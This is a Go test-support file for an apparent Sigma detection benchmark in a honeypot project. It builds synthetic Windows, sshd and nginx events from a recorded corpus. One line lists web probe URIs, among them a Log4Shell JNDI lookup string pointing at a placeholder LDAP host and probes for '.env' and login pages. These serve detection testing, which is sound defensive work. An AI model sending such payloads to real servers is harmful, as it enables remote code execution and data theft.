package sigmabench

import (
	"archive/zip"
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"honeyguide/internal/sigma"
)

// An event is one for both engines.
type event struct {
	rec *sigma.Record
	all map[string]any
}

func newEvent(n int, sources []sigma.Source, fields map[string]any) event {
	e := event{rec: &sigma.Record{ID: fmt.Sprint(n), Sources: sources}, all: fields}
	for _, k := range slices.Sorted(maps.Keys(fields)) {
		switch v := fields[k].(type) {
		case nil:
			e.rec.Fields = append(e.rec.Fields, sigma.Field{Name: k, Null: true})
		case map[string]any, []any:
		default:
			e.rec.Fields = append(e.rec.Fields, sigma.Field{Name: k, Text: fmt.Sprint(v)})
		}
	}
	return e
}

// corpus opens a file of the shared corpus, which is no part of the repository.
func corpus(t *testing.T, name string) string {
	t.Helper()
	for _, up := range []string{"../../..", "../../../.."} {
		p := filepath.Join(up, "shared/corpus", name)
		if _, err := os.Stat(p); err == nil {
			return p
		}
	}
	t.Skipf("the corpus is not here: %s", name)
	return ""
}

// windowsEvents are those of a recording.
func windowsEvents(t *testing.T, name string) (out []event) {
	t.Helper()
	z, err := zip.OpenReader(corpus(t, "soc/otrf/"+name+".zip"))
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	for _, f := range z.File {
		in, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		dec := json.NewDecoder(in)
		dec.UseNumber()
		for {
			var o map[string]any
			if err := dec.Decode(&o); err == io.EOF {
				break
			} else if err != nil {
				t.Fatal(err)
			}
			id := 0
			fmt.Sscan(fmt.Sprint(o["EventID"]), &id)
			for k, v := range o {
				switch x := v.(type) {
				case json.Number:
					o[k] = x.String()
				case string:
					if a := sigma.WindowsAliases[k]; a != "" && id == 4688 {
						o[a] = x
					}
				}
			}
			out = append(out, newEvent(len(out), sigma.WindowsSources(fmt.Sprint(o["Channel"]), id), o))
		}
		in.Close()
	}
	return out
}

// decoyEvents are what decoys see: recorded command lines as processes, logins
// with recorded names, and web requests.
func decoyEvents(t *testing.T) (out []event) {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(filepath.Dir(corpus(t, "attacker/SOURCES.md")), "*__*.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	process := []sigma.Source{{Product: "linux", Category: "process_creation"}}
	auth := []sigma.Source{{Product: "linux", Service: "sshd"}, {Product: "linux", Service: "auth"}}
	web := []sigma.Source{{Product: "nginx", Category: "webserver"}}
	for _, f := range files {
		in, err := os.Open(f)
		if err != nil {
			t.Fatal(err)
		}
		lines := bufio.NewScanner(in)
		lines.Buffer(nil, 1<<20)
		for lines.Scan() {
			var x struct{ C string }
			if json.Unmarshal(lines.Bytes(), &x) != nil || x.C == "" {
				continue
			}
			n := len(out)
			word, _, _ := strings.Cut(x.C, " ")
			out = append(out, newEvent(n, process, map[string]any{
				"Image": "/usr/bin/" + word, "CommandLine": x.C, "User": "root", "CurrentDirectory": "/root", "ParentImage": "/bin/bash", "ParentCommandLine": "-bash",
			}))
			line := fmt.Sprintf("Failed password for invalid user %s from 198.51.100.%d port %d ssh2", word, n%250, 1024+n)
			e := newEvent(n, auth, map[string]any{"message": line, "program": "sshd", "hostname": "web1"})
			e.rec.Raw = "Nov 21 19:30:00 web1 sshd[9]: " + line
			out = append(out, e)
			uri := []string{"/", "/index.php?id=" + word, "/.env", "/cgi-bin/luci", "/api/v1/items?page=2&sort=name", "/wp-login.php", "/?x=${jndi:ldap://192.0.2.1/a}", "/static/app.js"}[n%8]
			stem, query, _ := strings.Cut(uri, "?")
			out = append(out, newEvent(n, web, map[string]any{
				"cs-method": "GET", "cs-uri": uri, "cs-uri-stem": stem, "cs-uri-query": query, "cs-host": "web1", "cs-user-agent": "Mozilla/5.0 (X11; Linux x86_64)",
				"c-ip": fmt.Sprintf("198.51.100.%d", n%250), "sc-status": "404",
			}))
		}
		in.Close()
	}
	return out
}
